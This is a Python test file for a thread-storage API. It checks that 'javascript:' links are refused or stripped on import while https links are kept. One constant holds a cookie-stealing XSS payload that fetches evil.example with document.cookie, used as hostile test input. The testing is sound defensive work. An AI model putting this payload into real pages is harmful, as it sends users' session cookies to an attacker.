"""A `javascript:` link is never stored or served: refused (422) in the canonical format, left out
of a platform export's thread with a line in its import report."""

from __future__ import annotations

import json
from pathlib import Path

from fastapi.testclient import TestClient

from tests.api.bodies import dialogue_thread
from tests.api.problems import assert_problem

FOURCAT = Path(__file__).resolve().parents[2] / "fixtures" / "formats" / "tiktok_4cat"
SCRIPT_LINK = "javascript:fetch('https://evil.example/?'+document.cookie)"


def test_the_canonical_format_refuses_a_script_link_naming_the_field(client: TestClient) -> None:
    thread = dialogue_thread() | {"url": SCRIPT_LINK}
    body = assert_problem(client.post("/v1/threads", json=thread), 422)
    assert [error["loc"] for error in body["errors"]] == [["url"]]
    assert "'javascript'" in body["errors"][0]["msg"]
    assert client.get("/v1/threads").json()["items"] == []


def test_the_canonical_format_keeps_an_https_link(client: TestClient) -> None:
    link = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
    created = client.post("/v1/threads", json=dialogue_thread() | {"url": link})
    assert created.status_code == 201, created.text
    (thread,) = created.json()["threads"]
    assert client.get(f"/v1/threads/{thread['id']}").json()["url"] == link


def test_a_platform_export_is_stored_without_its_script_link_and_says_so(
    client: TestClient,
) -> None:
    records = [json.loads(line) for line in (FOURCAT / "export.ndjson").read_text().splitlines()]
    for record in records:
        record["post_url"] = SCRIPT_LINK
    upload = "\n".join(json.dumps(record) for record in records).encode()
    created = client.post(
        "/v1/threads", files={"file": ("4cat.ndjson", upload, "application/x-ndjson")}
    )
    assert created.status_code == 201, created.text
    threads = created.json()["threads"]
    assert threads
    for thread in threads:
        assert thread["url"] is None
        refused = [line for line in thread["import_report"]["limits"] if "url" in line]
        assert refused == [
            "url not stored: it has scheme 'javascript'; only http and https links are kept"
        ]
        assert client.get(f"/v1/threads/{thread['id']}").json()["url"] is None
    assert "javascript:" not in client.get("/v1/threads").text
